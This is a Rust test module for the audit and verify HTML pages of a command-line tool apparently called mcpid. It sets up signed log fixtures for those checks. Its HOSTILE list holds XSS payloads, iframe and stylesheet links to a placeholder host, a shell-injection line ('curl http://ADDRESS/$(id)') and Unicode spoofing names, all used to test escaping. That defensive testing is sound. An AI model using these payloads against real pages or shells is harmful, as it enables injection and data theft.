//! Tests of the HTML pages of `audit check`, `audit report` and `verify`, and of the events of
//! `audit show`.
#![allow(clippy::unwrap_used)]

mod browser;
mod files;
#[path = "../audit/fixtures.rs"]
#[allow(dead_code)]
mod fixtures;
#[path = "../audit/forger.rs"]
#[allow(dead_code)]
mod forger;
mod keeping;
mod ocsf;
mod p256;
#[path = "../gateway_report/page_server.rs"]
mod page_server;
mod texts;
mod verdicts;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use fixtures::{LogFixture, START, call, key};
use mcpid::audit::{LogSettings, Recorder, proof};
use mcpid::clock::Clock as _;
use mcpid::key::Sign as _;
use mcpid::profile::Profile;
use serde_json::json;
use tempfile::TempDir;

/// Names that contain markup, scripts and addresses. `ADDRESS` stands for a server that records
/// requests.
const HOSTILE: &[&str] = &[
    "<script>document.title='pwned'</script>",
    "<img src=http://ADDRESS/img onerror=\"document.title='pwned'\">",
    "</title></style></pre><iframe src=http://ADDRESS/frame></iframe>",
    "--><link rel=stylesheet href=http://ADDRESS/link><!--",
    "'; curl http://ADDRESS/$(id) #`id`",
    "evil\u{202e}gnp.exe\u{2066}zero\u{200b}width",
    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}algo",
    "שם עברי",
];

/// A folder with a log, the auditor's trust file, and the evidence of each entry.
struct AuditFolder {
    folder: TempDir,
    log_key: String,
}

impl AuditFolder {
    /// Makes a log with calls of these tools. The signing keys are named after `name`.
    fn new(tools: &[String], name: &str) -> Self {
        let folder = TempDir::new().unwrap();
        let fixture = LogFixture::at(folder.path().join("log"), fixtures::NAME);
        let recorder = Recorder::new(fixture.open());
        for tool in tools {
            fixture.clock.forward(1);
            let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call",
                "params": {"name": tool}});
            let at = fixture.clock.now().unix();
            fixture.record(&recorder, &call(1, at, &body.to_string(), &[])).unwrap();
        }
        drop(recorder);
        let x = URL_SAFE_NO_PAD.encode(key(1).public().as_bytes());
        let trust = json!({"keys": [
            {"kty": "OKP", "crv": "Ed25519", "x": x, "mcpid": {"name": name}}]});
        std::fs::write(folder.path().join("trust.json"), trust.to_string()).unwrap();
        for n in 0..tools.len() as u64 {
            let evidence = proof::prove(&fixture.files(), n, None).unwrap();
            std::fs::write(folder.path().join(format!("evidence-{n}.json")), evidence).unwrap();
        }
        std::fs::write(folder.path().join("kept"), fixture.checkpoint()).unwrap();
        AuditFolder { folder, log_key: fixture.log_key.to_string() }
    }

    /// Makes a log with one genuine entry.
    fn honest() -> Self {
        AuditFolder::new(&["pay".to_owned()], "alice")
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn run(&self, arguments: &[&str]) -> Output {
        mcpid(self.folder.path(), arguments)
    }

    /// Runs `audit check` on the evidence of entry `n`, with further arguments.
    fn check(&self, n: usize, more: &[&str]) -> Output {
        let file = format!("evidence-{n}.json");
        let mut arguments = vec!["audit", "check", "--log-key", &self.log_key];
        arguments.extend_from_slice(more);
        arguments.push(&file);
        self.run(&arguments)
    }

    /// Runs `audit report` on the log, with further arguments.
    fn report(&self, more: &[&str]) -> Output {
        let mut arguments = vec!["audit", "report", "--audit", "log", "--log-key", &self.log_key];
        arguments.extend_from_slice(more);
        self.run(&arguments)
    }

    fn read(&self, name: &str) -> String {
        std::fs::read_to_string(self.path(name)).unwrap()
    }
}

fn mcpid(folder: &Path, arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_mcpid"));
    command.args(arguments).current_dir(folder).env("HOME", folder).output().unwrap()
}

#[track_caller]
fn stdout(output: &Output, code: i32) -> String {
    assert_eq!(output.status.code(), Some(code), "{output:?}");
    String::from_utf8(output.stdout.clone()).unwrap()
}

/// Returns a log whose rules are laxer than those of its profile.
fn lax_folder() -> AuditFolder {
    let folder = TempDir::new().unwrap();
    let fixture = LogFixture::at(folder.path().join("log"), fixtures::NAME);
    let recorder = Recorder::new(fixture.try_open(LogSettings::default()).unwrap());
    let mut profile = Profile::mcp();
    profile.window.max_age = Some(86_400);
    fixture
        .record_by(
            &recorder,
            &call(1, START, &fixtures::body(1), &[]),
            &fixture.verifier_by(profile),
        )
        .unwrap();
    drop(recorder);
    let evidence = proof::prove(&fixture.files(), 0, None).unwrap();
    std::fs::write(folder.path().join("evidence-0.json"), evidence).unwrap();
    let trust = json!({"keys": [fixtures::entry(1, json!({}))]});
    std::fs::write(folder.path().join("trust.json"), trust.to_string()).unwrap();
    AuditFolder { folder, log_key: fixture.log_key.to_string() }
}
